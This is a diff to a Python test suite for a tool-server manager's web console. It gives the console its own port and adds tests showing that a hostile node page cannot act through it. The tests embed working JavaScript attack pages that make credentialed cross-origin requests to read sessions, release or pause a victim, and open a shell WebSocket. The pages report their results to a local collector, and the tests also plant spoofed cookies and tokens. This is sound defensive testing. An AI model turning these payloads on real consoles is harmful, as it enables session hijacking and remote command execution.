@@ -24,7 +24,8 @@ from websockets.exceptions import InvalidStatus
 from websockets.sync.client import connect
 
 from testing.harness import ManagerProc, free_port
-from tests.conftest import ADMIN_TOKEN, ROOT, base_config, remove_containers, wait_for
+from testing.hostile_node import hostile_config, set_rules, spec_header
+from tests.conftest import ADMIN_TOKEN, INTERNAL_TOKEN, ROOT, base_config, remove_containers, wait_for
 
 CHROMIUM = shutil.which("chromium") or "/usr/bin/chromium"
 RESULTS = ROOT / "benchmarks" / "results"
@@ -90,14 +91,15 @@ def test_wrong_token_refused_right_one_logs_in_without_leaking_it(manager: Manag
     urls: list[str] = []
     page = context.new_page()
     page.on("request", lambda req: urls.append(req.url))
-    log_in(page, manager.url, "not-the-token")
+    log_in(page, manager.console_url, "not-the-token")
     page.wait_for_selector("#login-error:has-text('Wrong token')")
     assert not [c for c in context.cookies() if c["name"] == "tsm_console"]
-    r = httpx.post(manager.url + "/ui/login", json={"token": "not-the-token"}, headers={"Origin": manager.url})
+    r = httpx.post(manager.console_url + "/ui/login", json={"token": "not-the-token"},
+                   headers={"Origin": manager.console_url})
     assert r.status_code == 403 and "set-cookie" not in r.headers
-    assert httpx.get(manager.url + "/ui/api/nodes").status_code == 401
+    assert httpx.get(manager.console_url + "/ui/api/nodes").status_code == 401
 
-    log_in(page, manager.url)
+    log_in(page, manager.console_url)
     page.wait_for_selector("#nav:not([hidden])")
     page.wait_for_selector("#live:has-text('live')")
     cookie, = [c for c in context.cookies() if c["name"] == "tsm_console"]
@@ -109,8 +111,8 @@ def test_wrong_token_refused_right_one_logs_in_without_leaking_it(manager: Manag
 
 
 def test_session_lifecycle_from_the_page(manager: ManagerProc, context: BrowserContext) -> None:
-    page = logged_in(context, manager.url)
-    page.goto(manager.url + "/ui/#/sessions")
+    page = logged_in(context, manager.console_url)
+    page.goto(manager.console_url + "/ui/#/sessions")
     page.wait_for_selector("#sessions:not([hidden])")
     c, node_id = new_session(manager.url)
     # created by a client: on the page within a second (the events stream, no reload)
@@ -132,11 +134,11 @@ def test_session_lifecycle_from_the_page(manager: ManagerProc, context: BrowserC
     page.wait_for_selector("#terminal:has-text('term-42-ok')", timeout=15000)
     page.screenshot(path=str(RESULTS / "console-terminal.png"), full_page=True)
 
-    page.goto(manager.url + "/ui/#/cluster")  # charts have sampled /metrics since the login
+    page.goto(manager.console_url + "/ui/#/cluster")  # charts have sampled /metrics since the login
     page.wait_for_selector(f"#cluster td:text-is('{manager.replica_id}')")
     page.wait_for_selector("#cluster .chart .u-over")
     page.screenshot(path=str(RESULTS / "console-cluster.png"), full_page=True)
-    page.goto(manager.url + f"/ui/#/session/{node_id}")
+    page.goto(manager.console_url + f"/ui/#/session/{node_id}")
 
     status = "#record tr:has(th:text-is('status')) td"
     for action, now in (("pause", "paused"), ("resume", "running")):  # tiers, from the page
@@ -153,7 +155,7 @@ def test_session_lifecycle_from_the_page(manager: ManagerProc, context: BrowserC
     wait_for(lambda: c.post("/execute_tool", json={"tool_name": "shell_command_executor",
                                                    "arguments": {"command": "true"}}).status_code == 403,
              timeout=15, what="the client refused after a release from the page")
-    page.goto(manager.url + "/ui/#/sessions")
+    page.goto(manager.console_url + "/ui/#/sessions")
     page.wait_for_selector(f'a[data-node="{node_id}"]', state="detached", timeout=5000)
 
     # released by a client: gone from the page without a reload
@@ -165,7 +167,7 @@ def test_session_lifecycle_from_the_page(manager: ManagerProc, context: BrowserC
 
 
 def test_markup_a_node_prints_is_shown_as_text(manager: ManagerProc, context: BrowserContext) -> None:
-    page = logged_in(context, manager.url)
+    page = logged_in(context, manager.console_url)
     dialogs: list[str] = []
     page.on("dialog", lambda d: (dialogs.append(d.message), d.dismiss()))
     c, node_id = new_session(manager.url)
@@ -174,7 +176,7 @@ def test_markup_a_node_prints_is_shown_as_text(manager: ManagerProc, context: Br
     r = c.post("/execute_tool", json={"tool_name": "shell_command_executor",
                                       "arguments": {"command": f"touch '/app/workspace/{fname}'"}})
     assert r.status_code == 200, r.text
-    page.goto(manager.url + f"/ui/#/session/{node_id}")
+    page.goto(manager.console_url + f"/ui/#/session/{node_id}")
     wait_for(lambda: fname in page.locator("#files").inner_text(), timeout=10, what="the file name shown literally")
     page.wait_for_selector("#log div", timeout=10000)
     wait_for(lambda: MARKUP in page.locator("#log").inner_text(), timeout=10, what="the line shown literally")
@@ -201,9 +203,9 @@ class _Attacker(BaseHTTPRequestHandler):
 
 
 def test_actions_from_another_origin_are_refused(manager: ManagerProc, context: BrowserContext) -> None:
-    page = logged_in(context, manager.url)
+    page = logged_in(context, manager.console_url)
     c, node_id = new_session(manager.url)
-    api = f"{manager.url}/ui/api/nodes/release"
+    api = f"{manager.console_url}/ui/api/nodes/release"
     body = json.dumps({"node_ids": [node_id]})
     _Attacker.page = (f"<script>fetch({json.dumps(api)}, {{method: 'POST', mode: 'no-cors', credentials: 'include',"
                       f" body: {json.dumps(body)}}}).then(() => document.title = 'sent', () => document.title = 'sent');"
@@ -228,11 +230,12 @@ def test_actions_from_another_origin_are_refused(manager: ManagerProc, context: 
         r = httpx.post(api, cookies=jar, headers=headers, content=body)
         assert r.status_code == 403 and "cross-origin" in r.json()["detail"], r.text
         with pytest.raises(InvalidStatus) as exc:
-            connect(f"ws://127.0.0.1:{manager.port}/ui/ws/shell/{node_id}", open_timeout=5,
+            connect(f"ws://{manager.console_url[7:]}/ui/ws/shell/{node_id}", open_timeout=5,
                     additional_headers={"Cookie": f"tsm_console={jar['tsm_console']}", **headers})
         assert exc.value.response.status_code == 403
     # the same request from the console's own origin goes through
-    r = httpx.post(f"{manager.url}/ui/api/nodes/{node_id}/stop", cookies=jar, headers={"Origin": manager.url})
+    r = httpx.post(f"{manager.console_url}/ui/api/nodes/{node_id}/stop", cookies=jar,
+                   headers={"Origin": manager.console_url})
     assert r.status_code == 200, r.text
     c.post("/release_session")
 
@@ -242,6 +245,8 @@ def test_console_is_off_without_an_admin_token(start_manager: Any) -> None:
     for path in ("/ui/", "/ui/static/app.js", "/ui/whoami"):
         assert httpx.get(m.url + path).status_code == 404
     assert httpx.post(m.url + "/ui/login", json={"token": ""}, headers={"Origin": m.url}).status_code == 404
+    with pytest.raises(httpx.ConnectError):  # nothing listens on the console's port
+        httpx.get(m.console_url + "/ui/")
 
 
 def test_logs_of_a_node_on_another_manager_id_stream_through_any_replica(
@@ -268,3 +273,174 @@ def test_logs_of_a_node_on_another_manager_id_stream_through_any_replica(
     assert "node ready on" not in seen  # tail=0: only what came after
     # both reads went to the owner (one engine here: only the count tells they were forwarded)
     assert 'toolserver_forwarded_requests_total{kind="logs"} 2.0' in httpx.get(a.url + "/metrics").text
+
+
+# --- a node's page never runs as the console (issue 22) -------------------------------------------------
+class _Collector(BaseHTTPRequestHandler):
+    """Where a hostile page reports what its script could do (any origin may POST here, no-cors)."""
+
+    reports: list[dict[str, Any]] = []
+    got = threading.Event()
+
+    def do_POST(self) -> None:  # noqa: N802 - http.server's name
+        body = self.rfile.read(int(self.headers.get("content-length") or 0))
+        type(self).reports.append(json.loads(body or b"{}"))
+        type(self).got.set()
+        self.send_response(204)
+        self.end_headers()
+
+    def log_message(self, *args: Any) -> None:
+        pass
+
+
+def _attack_page(m: ManagerProc, victim: str, collect: str) -> str:
+    """A node's page whose script tries, at the console's origin and at its own, to read the
+    sessions, release and pause the victim and open a shell in it; then reports what it got."""
+    bases = {"console": m.console_url, "proxy": m.url}
+    return ("<!doctype html><title>node page</title><script>(async () => {"
+            f"const B = {json.dumps(victim)}, bases = {json.dumps(bases)}, out = {{}};"
+            "const attempt = async (name, fn) => { try { out[name] = await fn(); } catch (e) { out[name] = 'error ' + e; } };"
+            "for (const [where, base] of Object.entries(bases)) {"
+            " await attempt(where + ':list', async () => { const r = await fetch(base + '/ui/api/nodes', {credentials: 'include'});"
+            "   return r.status + ' ' + (await r.text()).slice(0, 4000); });"
+            " await attempt(where + ':release', async () => { const r = await fetch(base + '/ui/api/nodes/release', {method: 'POST',"
+            "   credentials: 'include', headers: {'content-type': 'application/json'}, body: JSON.stringify({node_ids: [B]})});"
+            "   return r.status + ' ' + await r.text(); });"
+            " await attempt(where + ':pause', async () => { await fetch(base + '/ui/api/nodes/' + B + '/pause',"
+            "   {method: 'POST', mode: 'no-cors', credentials: 'include'}); return 'no-cors'; });"
+            " await attempt(where + ':shell', () => new Promise(res => {"
+            "   const ws = new WebSocket(base.replace('http', 'ws') + '/ui/ws/shell/' + B);"
+            "   ws.onopen = () => { ws.send('echo pwned\\n'); res('open'); };"
+            "   ws.onerror = () => res('refused'); ws.onclose = () => res('closed'); setTimeout(() => res('timeout'), 5000); }));"
+            "}"
+            f"await fetch({json.dumps(collect)}, {{method: 'POST', mode: 'no-cors', body: JSON.stringify(out)}});"
+            "document.title = 'reported';"
+            "})();</script>")
+
+
+@pytest.fixture
+def collector() -> Iterator[str]:
+    _Collector.reports = []
+    _Collector.got = threading.Event()
+    port = free_port()
+    srv = ThreadingHTTPServer(("127.0.0.1", port), _Collector)
+    threading.Thread(target=srv.serve_forever, daemon=True).start()
+    yield f"http://127.0.0.1:{port}/report"
+    srv.shutdown()
+
+
+def _hostile_sessions(m: ManagerProc, page: str, cookies: list[list[str]]) -> tuple[httpx.Client, httpx.Client]:
+    """(attacker, victim): two sessions of m; the attacker's node serves page (and cookies) at /."""
+    attacker, victim = new_session(m.url)[0], new_session(m.url)[0]
+    set_rules(attacker, {"/": {"content_type": "text/html", "body": page,
+                               "headers": [["set-cookie", c] for c in cookies]}})
+    return attacker, victim
+
+
+def _victim_untouched(m: ManagerProc, victim: httpx.Client) -> None:
+    node_id = victim.cookies["node_id"]
+    r = httpx.get(f"{m.url}/admin/nodes/{node_id}", headers={"Authorization": f"Bearer {ADMIN_TOKEN}"})
+    assert r.status_code == 200 and r.json()["record"]["status"] == "running", r.text  # not paused nor released
+
+
+OWN_COOKIES = ["tsm_console=planted; Path=/ui", "node_id=planted; Path=/", "tsm_api_key=planted; Path=/"]
+
+
+def test_a_nodes_page_cannot_read_or_act_through_the_console(start_manager: Any, browser: Browser,
+                                                             collector: str) -> None:
+    """Even allowed to run script (response_csp "sandbox allow-scripts"), a node's page served on the
+    proxy port, in a browser logged in to the console, reads nothing and changes nothing."""
+    m = start_manager(**hostile_config(proxy={"response_csp": "sandbox allow-scripts"}))
+    attacker, victim = _hostile_sessions(m, "", [])
+    set_rules(attacker, {"/": {"content_type": "text/html", "body": _attack_page(m, victim.cookies["node_id"],
+                                                                                 collector)}})
+    ctx = browser.new_context()
+    try:
+        logged_in(ctx, m.console_url)
+        ctx.add_cookies([{"name": "node_id", "value": attacker.cookies["node_id"], "url": m.url}])
+        page = ctx.new_page()
+        page.goto(m.url + "/")
+        assert _Collector.got.wait(30), "the node page's script never reported"
+    finally:
+        ctx.close()
+    out, = _Collector.reports
+    for where in ("console", "proxy"):
+        assert not out[f"{where}:list"].startswith("200"), out  # nothing read
+        assert victim.cookies["node_id"] not in out[f"{where}:list"], out
+        assert not out[f"{where}:release"].startswith("200"), out
+        assert out[f"{where}:shell"] != "open", out
+    _victim_untouched(m, victim)
+
+
+def test_a_nodes_page_runs_no_script_and_sets_no_cookie_of_the_managers(start_manager: Any, browser: Browser,
+                                                                        collector: str) -> None:
+    """By default a node's page is sandboxed without script; cookies named as the manager's are dropped."""
+    m = start_manager(**hostile_config())
+    attacker, victim = _hostile_sessions(m, "", [])
+    set_rules(attacker, {"/": {"content_type": "text/html", "headers": [["set-cookie", c] for c in OWN_COOKIES],
+                               "body": _attack_page(m, victim.cookies["node_id"], collector)}})
+    ctx = browser.new_context()
+    try:
+        logged_in(ctx, m.console_url)
+        login = {c["name"]: c["value"] for c in ctx.cookies()}["tsm_console"]
+        ctx.add_cookies([{"name": "node_id", "value": attacker.cookies["node_id"], "url": m.url}])
+        page = ctx.new_page()
+        blocked = threading.Event()
+        page.on("console", lambda msg: "Blocked script execution" in msg.text and blocked.set())
+        page.goto(m.url + "/")
+        wait_for(blocked.is_set, timeout=10, what="the browser refusing the node page's script")
+        jar = {c["name"]: c["value"] for c in ctx.cookies()}
+        assert jar["tsm_console"] == login and jar["node_id"] == attacker.cookies["node_id"], jar
+        assert "tsm_api_key" not in jar
+        page.goto(m.console_url + "/ui/")
+        page.wait_for_selector("#nav:not([hidden])")  # still logged in
+    finally:
+        ctx.close()
+    assert not _Collector.got.is_set()
+    _victim_untouched(m, victim)
+
+
+def test_proxied_answers_are_sandboxed_and_credentials_stay_with_the_manager(start_manager: Any) -> None:
+    m = start_manager(**hostile_config())
+    c = new_session(m.url)[0]
+    node_id = c.cookies["node_id"]
+    r = c.get("/", headers=spec_header(content_type="text/html", body="<script>1</script>", headers=[
+        ["set-cookie", x] for x in [*OWN_COOKIES, "theirs=1; Path=/"]] + [["x-content-type-options", "sniff"]]))
+    assert r.status_code == 200
+    assert r.headers["content-security-policy"] == "sandbox"
+    assert r.headers.get_list("x-content-type-options") == ["nosniff"]
+    assert r.headers.get_list("set-cookie") == ["theirs=1; Path=/"]
+
+    def seen(**kw: Any) -> dict[str, Any]:
+        r = httpx.get(m.url + "/", headers={"x-hostile-echo": "1", **kw.pop("headers", {})}, **kw)
+        assert r.status_code == 200, r.text
+        return r.json()  # type: ignore[no-any-return]
+
+    cookie = f"node_id={node_id}; tsm_console=login; tsm_api_key=key; other=1"
+    got = seen(headers={"Cookie": cookie, "Authorization": f"Bearer {ADMIN_TOKEN}"})["headers"]
+    assert got["cookie"] == f"node_id={node_id}; other=1" and "authorization" not in got, got
+    got = seen(headers={"Cookie": f"node_id={node_id}", "Authorization": INTERNAL_TOKEN})["headers"]
+    assert "authorization" not in got, got
+    got = seen(headers={"Cookie": f"node_id={node_id}", "Authorization": "Bearer the-nodes-own"})["headers"]
+    assert got["authorization"] == "Bearer the-nodes-own"  # not the manager's: the node's business
+    # a credential in the query is refused on proxied routes too, never forwarded
+    for qs in ("api_key=k", "token=t", "tsm_api_key=k", f"q={ADMIN_TOKEN}"):
+        r = httpx.get(f"{m.url}/?{qs}", headers={"Cookie": f"node_id={node_id}", "x-hostile-echo": "1"})
+        assert r.status_code == 400 and "not accepted in the URL" in r.json()["detail"], (qs, r.text)
+    assert seen(params={"page": "2"}, headers={"Cookie": f"node_id={node_id}"})["target"] == "/?page=2"
+
+
+def test_the_console_has_an_origin_of_its_own(manager: ManagerProc) -> None:
+    for path in ("/ui", "/ui/", "/ui/static/app.js", "/ui/whoami"):
+        r = httpx.get(manager.url + path)
+        assert r.status_code == 404 and "own port" in r.json()["detail"], (path, r.text)
+    assert httpx.post(manager.url + "/ui/login", json={"token": ADMIN_TOKEN},
+                      headers={"Origin": manager.url}).status_code == 404
+    with pytest.raises(InvalidStatus):
+        connect(f"ws://127.0.0.1:{manager.port}/ui/ws/events", open_timeout=5,
+                additional_headers={"Origin": manager.url})
+    r = httpx.get(manager.console_url + "/")
+    assert r.status_code == 307 and r.headers["location"] == "/ui/"
+    assert httpx.get(manager.console_url + "/ui/").status_code == 200
+    for path in ("/get_cookie", "/execute_tool", "/admin/nodes"):  # nothing a node answers, nor the rest
+        assert httpx.post(manager.console_url + path).status_code == 404
